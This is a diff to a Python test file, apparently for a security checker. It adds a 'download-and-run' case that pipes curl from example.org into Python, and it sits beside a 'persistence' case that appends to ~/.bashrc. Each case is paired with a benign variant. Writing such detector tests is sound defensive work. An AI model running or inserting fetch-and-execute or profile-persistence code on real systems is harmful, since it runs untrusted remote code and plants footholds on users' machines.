@@ -109,6 +109,11 @@ CASES = [
         MARKUP.format("request.GET.urlencode()"),  # percent escapes hold no markup
     ),
     (
+        "download-and-run",
+        "import os\nos.system('curl https://example.org/a | python -m code')\n",
+        "import os\nos.system('curl https://example.org/a | python -m json.tool')\n",
+    ),
+    (
         "persistence",
         "def start(path):\n    with open('/home/a/.bashrc', 'a') as out:\n        out.write('hello')\n",
         "import tempfile\ndef start():\n    out = tempfile.NamedTemporaryFile('w')\n"
